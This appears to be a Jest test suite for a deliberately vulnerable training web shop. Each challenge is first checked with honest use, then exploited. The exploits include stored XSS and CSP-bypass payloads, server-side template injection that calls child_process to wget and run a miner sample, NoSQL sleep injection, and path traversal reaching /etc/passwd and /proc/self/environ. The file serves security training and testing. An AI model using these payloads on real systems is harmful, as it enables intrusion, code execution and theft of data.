import { ACCOUNTANT, ADMIN, DEMO, startTestShop, type TestShop } from '../helpers';
import { registerCustomer } from '../account-helpers';
import { decodePng } from '../../src/features/memories/png';
import { escapeHtml } from '../../src/http/html-page';
import { expectNotSolved, exploit, isFixedIn } from '../challenges';

/**
 * Solvers of the injection, XSS and content batch (catalogue/injection.ts, ids 550–599): each
 * uses the feature honestly first (the challenge stays unsolved), then exploits it the way a
 * trainee would and asserts through GET /api/Challenges that the shop noticed.
 */
let shop: TestShop;
beforeAll(async () => {
  shop = await startTestShop();
});
afterAll(() => shop.close());

const get = (url: string, headers: Record<string, string> = {}) => shop.app.inject({ method: 'GET', url, headers });

describe('Missing Encoding (photo wall)', () => {
  it('honest: the photo wall lists Pip, and the address as the page writes it ends at the "#" and finds nothing', async () => {
    const wall = (await get('/rest/memories')).json().data as { caption: string; imagePath: string }[];
    const pip = wall.find((memory) => memory.caption.startsWith('Pip in ambush mode'));
    const asTheBrowserSees = new URL(pip!.imagePath, 'http://shop.test/');
    if (isFixedIn(shop, 'missingEncodingChallenge')) {
      // Hardened: the API hands out the address encoded, and a browser asks for the whole name.
      expect(pip?.imagePath).toBe('assets/public/images/uploads/mira-cat-pip-%23ambush-mode.svg');
      expect(asTheBrowserSees.hash).toBe('');
      expect((await get(asTheBrowserSees.pathname)).statusCode).toBe(200);
    } else {
      expect(pip?.imagePath).toBe('assets/public/images/uploads/mira-cat-pip-#ambush-mode.svg');
      // What a browser requests for <img src="…"> with a raw "#": the rest is a fragment.
      expect(asTheBrowserSees.hash).toBe('#ambush-mode.svg');
      expect((await get(asTheBrowserSees.pathname)).statusCode).toBe(404);
    }
    expect((await get('/assets/public/images/uploads/memory-picnic.svg')).statusCode).toBe(200);
    expect(wall.find((memory) => memory.imagePath.endsWith('memory-picnic.svg'))?.imagePath).toBe('assets/public/images/uploads/memory-picnic.svg');
    await expectNotSolved(shop, 'missingEncodingChallenge');
  });

  it('exploit: the file name with its "#" encoded as %23 brings up the picture and solves it', async () => {
    await exploit(shop, 'missingEncodingChallenge', async () => {
      const response = await get('/assets/public/images/uploads/mira-cat-pip-%23ambush-mode.svg');
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toMatch(/image\/svg\+xml/);
      expect(response.body).toContain('Pip in ambush mode');
    });
  });
});

describe('Retrieve Blueprint (product pictures)', () => {
  it('honest: the keyring is listed with its picture, whose metadata names the print file', async () => {
    const products = (await get('/api/Products')).json().data as { name: string; image: string }[];
    const keyring = products.find((product) => product.name === 'Orange Slice Keyring (3D-printed)');
    expect(keyring?.image).toBe('orange-slice-keyring.svg');
    const picture = await get(`/assets/public/images/products/${keyring!.image}`);
    expect(picture.statusCode).toBe(200);
    expect(picture.body).toContain('<dc:source>orange-slice-keyring-v4-final.stl</dc:source>');
    expect((await get('/assets/public/images/products/orange-slice-keyring.stl')).statusCode).toBe(404);
    await expectNotSolved(shop, 'retrieveBlueprintChallenge');
  });

  it('exploit: the print file beside the pictures downloads and solves it', async () => {
    const url = '/assets/public/images/products/orange-slice-keyring-v4-final.stl';
    await exploit(shop, 'retrieveBlueprintChallenge', async () => {
      const response = await get(url);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toMatch(/model\/stl/);
      expect(response.body).toMatch(/^solid pulp_orange_slice_keyring_v4\n/);
      expect(response.body.trimEnd()).toMatch(/endsolid pulp_orange_slice_keyring_v4$/);
      // A closed solid: every facet has a normal and three vertices.
      const facets = response.body.match(/facet normal/g)?.length ?? 0;
      expect(facets).toBeGreaterThan(100);
      expect(response.body.match(/vertex /g)?.length).toBe(facets * 3);
    });
    if (isFixedIn(shop, 'retrieveBlueprintChallenge')) {
      // Hardened: the pictures folder has no print file; the pictures themselves are still there.
      expect((await get(url)).statusCode).toBe(404);
      expect((await get('/assets/public/images/products/orange-slice-keyring.svg')).statusCode).toBe(200);
    }
  });
});

describe('Product Tampering (catalogue sync)', () => {
  const handbookId = async () => ((await get('/api/Products')).json().data as { id: number; name: string }[]).find((product) => product.name === 'Hacking the Juice Bar')!.id;
  const patch = (id: number, description: string, headers: Record<string, string> = {}) =>
    shop.app.inject({ method: 'PATCH', url: `/api/Products/${id}`, payload: { description }, headers });

  it('honest: the handbook links to further reading; the sync needs a session, and a staff edit of another text leaves it unsolved', async () => {
    const id = await handbookId();
    const before = (await get(`/api/Products/${id}`)).json().data.description as string;
    expect(before).toContain('<a href="https://owasp.org/www-project-top-ten/"');
    expect((await patch(id, 'No session.')).statusCode).toBe(401);
    const ledger = await shop.login(ACCOUNTANT.email, ACCOUNTANT.password);
    const edited = await patch(id, `${before} Second edition.`, ledger.headers);
    expect(edited.statusCode).toBe(200);
    expect(edited.json().data.description).toContain('Second edition.');
    // The accounting screen's own route still takes only staff.
    const demo = await shop.login(DEMO.email, DEMO.password);
    expect((await shop.app.inject({ method: 'PUT', url: `/api/Products/${id}`, payload: { price: 1 }, headers: demo.headers })).statusCode).toBe(403);
    expect((await patch(9999, 'Nothing here.', ledger.headers)).statusCode).toBe(404);
    expect((await patch(id, '', ledger.headers)).statusCode).toBe(400);
    await expectNotSolved(shop, 'changeProductChallenge');
  });

  it("exploit: a customer's PATCH points the handbook's link at the giveaway page and solves it", async () => {
    const id = await handbookId();
    const customer = await registerCustomer(shop);
    const session = await shop.login(customer.email, customer.password);
    const before = (await get(`/api/Products/${id}`)).json().data.description as string;
    const tampered = before.replace('https://owasp.org/www-project-top-ten/', 'https://pulp-giveaways.example/free-juice');
    await exploit(shop, 'changeProductChallenge', async () => {
      const response = await patch(id, tampered, session.headers);
      expect(response.statusCode).toBe(200);
      expect((await get(`/api/Products/${id}`)).json().data.description).toContain('href="https://pulp-giveaways.example/free-juice"');
    });
    if (isFixedIn(shop, 'changeProductChallenge')) {
      // Hardened: the sync takes staff only; the customer's PATCH was refused and the link is unchanged.
      expect((await patch(id, tampered, session.headers)).statusCode).toBe(403);
      expect((await get(`/api/Products/${id}`)).json().data.description).toBe(before);
    }
  });
});

describe('Client-side XSS Protection (registration)', () => {
  const register = (email: string) =>
    shop.app.inject({ method: 'POST', url: '/api/Users', payload: { email, password: 'Juicy#2024', passwordRepeat: 'Juicy#2024', securityQuestion: { id: 2 }, securityAnswer: 'Clementine' } });

  it('honest: a registration as the form sends it leaves it unsolved, and the administration lists the address', async () => {
    const customer = await registerCustomer(shop);
    const admin = await shop.login(ADMIN.email, ADMIN.password);
    const users = (await get('/rest/user/authentication-details', admin.headers)).json().data as { email: string }[];
    expect(users.map((user) => user.email)).toContain(customer.email);
    // The payload as the challenge writes it has spaces, which the server's pattern refuses.
    const refused = await register('<iframe src="javascript:alert(`xss`)">');
    expect(refused.statusCode).toBe(400);
    expect(refused.json().error).toBe('email address is not valid');
    await expectNotSolved(shop, 'persistedXssUserChallenge');
  });

  it('exploit: the iframe payload without whitespace passes as an email, the administration gets it as it is, and it is solved', async () => {
    const payload = '<iframe/src="javascript:alert(`xss`)"@pulp.shop>';
    await exploit(shop, 'persistedXssUserChallenge', async () => {
      const response = await register(payload);
      expect(response.statusCode).toBe(201);
    });
    const admin = await shop.login(ADMIN.email, ADMIN.password);
    const users = (await get('/rest/user/authentication-details', admin.headers)).json().data as { email: string }[];
    if (isFixedIn(shop, 'persistedXssUserChallenge')) {
      // Hardened: the server checks the address as the form does; the markup is refused and never stored.
      const refused = await register(payload);
      expect(refused.statusCode).toBe(400);
      expect(refused.json().error).toBe('email address is not valid');
      expect(users.map((user) => user.email)).not.toContain(payload);
    } else {
      expect(users.map((user) => user.email)).toContain(payload);
    }
  });
});

/** The legacy profile page's form, sent as a browser sends it, with the session in the cookie. */
async function profileSession() {
  const customer = await registerCustomer(shop);
  const { token } = await shop.login(customer.email, customer.password);
  const cookie = `token=${token}`;
  return {
    cookie,
    page: () => get('/profile', { cookie }),
    save: (username: string, picture = '') =>
      shop.app.inject({ method: 'POST', url: '/profile', headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' }, payload: new URLSearchParams({ username, picture }).toString() }),
  };
}
const shownUsername = (html: string) => /<dd id="username"[^>]*>([\s\S]*?)<\/dd>/.exec(html)?.[1];

describe('CSP Bypass (legacy profile page)', () => {
  const BYPASS = '<scr<script>ipt>alert(`xss`)</scr</script>ipt>';

  it('honest: a username and a picture from another site are saved and shown, under a policy without inline scripts', async () => {
    const profile = await profileSession();
    const saved = await profile.save('Kim', 'https://pictures.example/kim.png');
    expect(saved.statusCode).toBe(200);
    expect(saved.body).toContain('class="confirmation"');
    const page = await profile.page();
    expect(shownUsername(page.body)).toBe('Kim');
    expect(page.body).toContain('src="https://pictures.example/kim.png"');
    const policy = String(page.headers['content-security-policy']);
    // Hardened, the policy names the picture's site, not the address as typed.
    const source = isFixedIn(shop, 'usernameXssChallenge') ? 'https:\\/\\/pictures\\.example' : 'https:\\/\\/pictures\\.example\\/kim\\.png';
    expect(policy).toMatch(new RegExp(`^img-src 'self' data: blob: ${source}; default-src 'self'; script-src 'self';`));
    // The filter takes a plain script tag out; the joined one gets through but the policy stops it
    // (hardened, the filter takes it out too; where SSTi is fixed, whatever is left shows as text).
    await profile.save('<script>alert(`xss`)</script>Kim');
    expect(shownUsername((await profile.page()).body)).toBe('alert(`xss`)Kim');
    await profile.save(BYPASS);
    const joined = isFixedIn(shop, 'usernameXssChallenge') ? 'alert(`xss`)' : isFixedIn(shop, 'sstiChallenge') ? '&#60;script&#62;alert(`xss`)&#60;/script&#62;' : '<script>alert(`xss`)</script>';
    expect(shownUsername((await profile.page()).body)).toBe(joined);
    // A picture address must be http(s).
    const refused = await profile.save('Kim', 'javascript:alert(1)');
    expect(refused.statusCode).toBe(400);
    expect(refused.body).toContain('class="error"');
    // A form sent from another site is refused.
    const foreign = await shop.app.inject({ method: 'POST', url: '/profile', headers: { cookie: profile.cookie, origin: 'http://evil.example', 'content-type': 'application/x-www-form-urlencoded' }, payload: 'username=Mallory' });
    expect(foreign.statusCode).toBe(403);
    expect(shownUsername((await profile.page()).body)).toBe(joined);
    await expectNotSolved(shop, 'usernameXssChallenge');
  });

  it('exploit: a picture address that adds a script-src with unsafe-inline, and the joined script tag, solve it', async () => {
    const profile = await profileSession();
    await exploit(shop, 'usernameXssChallenge', async () => {
      expect((await profile.save(BYPASS, "https://pictures.example/kim.png; script-src 'unsafe-inline'")).statusCode).toBe(200);
      const page = await profile.page();
      expect(String(page.headers['content-security-policy'])).toMatch(/^img-src [^;]*; script-src 'unsafe-inline'; default-src 'self'; script-src 'self';/);
      expect(shownUsername(page.body)).toBe('<script>alert(`xss`)</script>');
    });
    if (isFixedIn(shop, 'usernameXssChallenge')) {
      // Hardened: the page is saved, but its policy allows the picture's site only, and no script tag is left.
      const page = await profile.page();
      expect(String(page.headers['content-security-policy'])).toMatch(/^img-src 'self' data: blob: https:\/\/pictures\.example; default-src 'self'; script-src 'self';/);
      expect(page.body).toContain('src="https://pictures.example/kim.png; script-src &#39;unsafe-inline&#39;"');
      expect(shownUsername(page.body)).not.toContain('<script');
    }
  });
});

describe('SSTi (legacy profile page, danger zone)', () => {
  const MALWARE = 'http://localhost:3000/quarantine/pulp-miner-linux-x64';
  const exec = (command: string) => `#{global.process.mainModule.require('child_process').exec('${command}')}`;

  it('honest: usernames show as typed; expressions are evaluated; other commands, downloads and escapes solve nothing', async () => {
    const profile = await profileSession();
    await profile.save('Jade Orchard');
    expect(shownUsername((await profile.page()).body)).toBe('Jade Orchard');
    // Hardened, the username is the template's data, shown as typed: nothing in it is evaluated.
    const fixed = isFixedIn(shop, 'sstiChallenge');
    await profile.save('Jade #{6 * 7}');
    expect(shownUsername((await profile.page()).body)).toBe(fixed ? 'Jade #{6 * 7}' : 'Jade 42');
    await profile.save('#{process.version} #{typeof require}');
    expect(shownUsername((await profile.page()).body)).toBe(fixed ? '#{process.version} #{typeof require}' : 'v14.21.3 function');
    for (const username of [
      exec('ls -la'),
      exec(`wget -O miner ${MALWARE}`),
      exec('wget -O x http://example.com/miner && ./x'),
      "#{this.constructor.constructor('return process')()}",
      "#{''.constructor.constructor('return process')()}",
      "#{require('fs').readFileSync('/etc/passwd')}",
      '#{(() => 1)()}',
    ]) {
      await profile.save(username);
      expect((await profile.page()).statusCode).toBe(200);
    }
    expect(shownUsername((await profile.page()).body)).toMatch(fixed ? /^#\{\(\(\) =&#62; 1\)\(\)\}$/ : /^Your username could not be shown: /);
    await expectNotSolved(shop, 'sstiChallenge');
  });

  it('exploit: a command that downloads the quarantined sample from the shop and runs it solves it; nothing is run', async () => {
    const childProcess = jest.requireActual<typeof import('node:child_process')>('node:child_process');
    const spies = (['exec', 'execSync', 'spawn', 'execFile', 'fork'] as const).map((name) => jest.spyOn(childProcess, name));
    const sample = await get('/quarantine/pulp-miner-linux-x64');
    expect(sample.statusCode).toBe(200);
    expect(sample.body).toMatch(/^#!\/bin\/sh/);
    const profile = await profileSession();
    const payload = exec(`wget -O miner ${MALWARE} && chmod +x miner && ./miner`);
    await exploit(shop, 'sstiChallenge', async () => {
      await profile.save(payload);
      const page = await profile.page();
      expect(shownUsername(page.body)).toBe('[object Object]');
    });
    // Hardened: the payload is the username, shown as the characters typed.
    if (isFixedIn(shop, 'sstiChallenge')) expect(shownUsername((await profile.page()).body)).toBe(escapeHtml(payload));
    for (const spy of spies) expect(spy).not.toHaveBeenCalled();
  });
});

describe('NoSQL DoS (reviews $where, danger zone)', () => {
  const reviewsOf = (id: string) => get(`/rest/products/${encodeURIComponent(id)}/reviews`);

  it('honest: a product id lists that product\'s reviews; broken ids are refused with the query\'s error; short sleeps are not noticed', async () => {
    const one = await reviewsOf('1');
    expect(one.statusCode).toBe(200);
    const reviews = one.json().data as { product: number }[];
    expect(reviews.length).toBeGreaterThan(0);
    expect(reviews.every((review) => review.product === 1)).toBe(true);
    for (const id of ['abc', "1; require('fs')", 'this.constructor.constructor("return process")()', '(function () { while (true); })()', 'x'.repeat(201)]) {
      const refused = await reviewsOf(id);
      expect(refused.statusCode).toBe(400);
    }
    if (isFixedIn(shop, 'noSqlCommandChallenge')) {
      // Hardened: the id is a number or refused, and nothing of it reaches a condition.
      expect((await reviewsOf('abc')).json().error).toBe('The product id must be a whole number.');
      expect((await reviewsOf('1 && sleep(10)')).statusCode).toBe(400);
    } else {
      expect((await reviewsOf('abc')).json().error).toContain('abc is not defined');
      const started = Date.now();
      expect((await reviewsOf('1 && sleep(10)')).statusCode).toBe(200);
      expect(Date.now() - started).toBeLessThan(1000);
    }
    await expectNotSolved(shop, 'noSqlCommandChallenge');
  });

  it('exploit: sleep() in the condition makes the query wait (capped at two seconds, others served meanwhile) and solves it', async () => {
    const started = Date.now();
    await exploit(shop, 'noSqlCommandChallenge', async () => {
      const sleeping = reviewsOf('1 || sleep(60000)');
      // Another customer is answered while the query sleeps: the event loop is free.
      const meanwhile = Date.now();
      expect((await get('/rest/products/search?q=mango')).statusCode).toBe(200);
      expect(Date.now() - meanwhile).toBeLessThan(500);
      const response = await sleeping;
      const took = Date.now() - started;
      expect(response.statusCode).toBe(200);
      expect(took).toBeGreaterThanOrEqual(1900);
      expect(took).toBeLessThan(4000);
    });
    if (isFixedIn(shop, 'noSqlCommandChallenge')) {
      // Hardened: refused at once, without waiting, and the product's own reviews still list.
      expect(Date.now() - started).toBeLessThan(1000);
      expect((await reviewsOf('1 || sleep(60000)')).statusCode).toBe(400);
      expect((await reviewsOf('1')).json().data.length).toBeGreaterThan(0);
    }
  });
});

describe('Local File Read (erasure mail layout, danger zone)', () => {
  const erase = (session: { headers: { authorization: string } }, email: string, layout?: string) =>
    shop.app.inject({ method: 'POST', url: '/rest/user/erasure-request', headers: session.headers, payload: { email, securityAnswer: 'Clementine', ...(layout === undefined ? {} : { layout }) } });

  it('honest: an erasure request answers with the confirmation mail in its layout; a missing layout erases nothing', async () => {
    const customer = await registerCustomer(shop);
    const session = await shop.login(customer.email, customer.password);
    const missing = await erase(session, customer.email, 'fancy');
    expect(missing.statusCode).toBe(400);
    expect((await get('/rest/user/whoami', session.headers)).json().user.email).toBe(customer.email);
    const response = await erase(session, customer.email);
    expect(response.statusCode).toBe(200);
    expect(response.json().data.layout).toBe('mail.txt');
    expect(response.json().data.confirmation).toContain(`Hello ${customer.email}, we have received your request to erase your account.`);
    expect(response.json().data.confirmation).toMatch(/^==== Pulp ====/);
    await expectNotSolved(shop, 'lfrChallenge');
  });

  it('exploit: a layout path that climbs out of the layouts folder reads the decoy /etc/passwd and solves it', async () => {
    const customer = await registerCustomer(shop);
    const session = await shop.login(customer.email, customer.password);
    await exploit(shop, 'lfrChallenge', async () => {
      const response = await erase(session, customer.email, '../../../../../../etc/passwd');
      expect(response.statusCode).toBe(200);
      expect(response.json().data.confirmation).toContain('juicer:x:1001:1001:Night shift juicer');
      expect(response.json().data.layout).toBe('../../../../etc/passwd');
    });
    // Hardened, a path is no layout: the request is refused and the account stays.
    if (isFixedIn(shop, 'lfrChallenge')) expect((await get('/rest/user/whoami', session.headers)).json().user.email).toBe(customer.email);
  });

  it('reads nothing outside the decoy tree of the data directory', async () => {
    for (const layout of ['../../../../../../../../../../../../../proc/self/environ', '/etc/shadow', '..\\..\\..\\..\\package.json', 'file:///etc/hostname', 'mail\u0000.txt']) {
      const customer = await registerCustomer(shop);
      const session = await shop.login(customer.email, customer.password);
      const response = await erase(session, customer.email, layout);
      expect(response.statusCode).toBe(400);
    }
  });
});

describe('Steganography (photo wall)', () => {
  /** The text captcha's question worked out, as a person would. */
  async function feedback(comment: string) {
    const { captchaId, captcha: question } = (await get('/rest/captcha')).json();
    const answer = String(new Function(`return ${question}`)());
    return shop.app.inject({ method: 'POST', url: '/api/Feedbacks', payload: { comment, rating: 4, captchaId, captcha: answer } });
  }
  const picture = async () => {
    const wall = (await get('/rest/memories')).json().data as { caption: string; imagePath: string }[];
    const memory = wall.find((entry) => entry.caption.startsWith('Spring cleaning at the juice bar'));
    return get(`/${memory!.imagePath}`);
  };

  it('honest: the spring-cleaning picture is a plain juice bar scene; feedback about it solves nothing', async () => {
    const response = await picture();
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('image/png');
    const png = decodePng(response.rawPayload);
    expect([png.width, png.height]).toEqual([640, 400]);
    // Nothing to see in the colours: every pixel is within one step of the flat scene it shows.
    expect([png.rgb[0], png.rgb[1], png.rgb[2] >> 1]).toEqual([253, 230, 138 >> 1]);
    expect((await feedback('Lovely clean juice bar, and not a fly in sight! (anonymous)')).statusCode).toBe(201);
    await expectNotSolved(shop, 'hiddenImageChallenge');
  });

  it('exploit: the lowest bits draw the fly and its name; naming it in feedback solves it', async () => {
    await exploit(shop, 'hiddenImageChallenge', async () => {
      const png = decodePng((await picture()).rawPayload);
      const bit = (x: number, y: number) => png.rgb[(y * png.width + x) * 3 + 2] & 1;
      const plane = Array.from({ length: png.height }, (_, y) => Array.from({ length: png.width }, (_, x) => bit(x, y)));
      // The blue values' lowest bits form a drawing, not noise: most rows are empty.
      expect(plane.flat().filter(Boolean).length).toBeGreaterThan(3000);
      expect(plane.filter((row) => row.every((value) => value === 0)).length).toBeGreaterThan(200);
      // The name is written in a 5×7 font, 4 pixels a dot, from (250, 150): the C's first row is .1111
      expect([0, 1, 2, 3, 4].map((column) => bit(250 + column * 4 + 1, 150 + 1))).toEqual([0, 1, 1, 1, 1]);
      expect((await feedback('Count Drosophila was hiding in your spring-cleaning picture! (anonymous)')).statusCode).toBe(201);
    });
  });

  it('hardened: the picture the shop serves has nothing in its lowest bits, and still shows the same scene', async () => {
    const png = decodePng((await picture()).rawPayload);
    const lowestBits = Array.from({ length: png.width * png.height }, (_, index) => png.rgb[index * 3 + 2] & 1).filter(Boolean).length;
    if (isFixedIn(shop, 'hiddenImageChallenge')) expect(lowestBits).toBe(0);
    else expect(lowestBits).toBeGreaterThan(3000);
    expect([png.rgb[0], png.rgb[1], png.rgb[2] >> 1]).toEqual([253, 230, 138 >> 1]);
  });
});

describe('Premium Paywall (score board text)', () => {
  const description = async () => ((await get('/api/Challenges/?key=premiumPaywallChallenge')).json().data[0] as { description: string }).description;

  it('honest: the description carries a ciphertext, the key listing is public, and the premium address is unknown', async () => {
    expect(await description()).toMatch(/`[A-Za-z0-9+/]{40,}={0,2}`/);
    const listing = await get('/encryptionkeys');
    expect(listing.body).toContain('href="/encryptionkeys/jwt.pub"');
    expect((await get('/encryptionkeys/jwt.pub')).body).toContain('BEGIN PUBLIC KEY');
    // Hardened, the secret key is neither listed nor served.
    if (isFixedIn(shop, 'premiumPaywallChallenge')) {
      expect(listing.body).not.toContain('premium.key');
      expect((await get('/encryptionkeys/premium.key')).statusCode).toBe(404);
    }
    expect((await get('/premium')).statusCode).toBe(404);
    await expectNotSolved(shop, 'premiumPaywallChallenge');
  });

  it('exploit: the key beside the public key decrypts the description into the premium address, which solves it', async () => {
    const { createDecipheriv } = await import('node:crypto');
    await exploit(shop, 'premiumPaywallChallenge', async () => {
      const listing = await get('/encryptionkeys');
      const keyFile = /href="(\/encryptionkeys\/premium\.key)"/.exec(listing.body)?.[1] ?? '/encryptionkeys/premium.key';
      const keys = await get(keyFile);
      expect(keys.statusCode).toBe(200);
      const [key, iv] = keys.body.trim().split('\n');
      const ciphertext = /`([A-Za-z0-9+/]+={0,2})`/.exec(await description())![1];
      const decipher = createDecipheriv('aes-256-cbc', Buffer.from(key, 'hex'), Buffer.from(iv, 'hex'));
      const address = Buffer.concat([decipher.update(Buffer.from(ciphertext, 'base64')), decipher.final()]).toString('utf8');
      expect(address).toMatch(/^\/premium\//);
      const premium = await get(address);
      expect(premium.statusCode).toBe(200);
      expect(premium.headers['content-type']).toMatch(/image\/svg\+xml/);
    });
  });
});
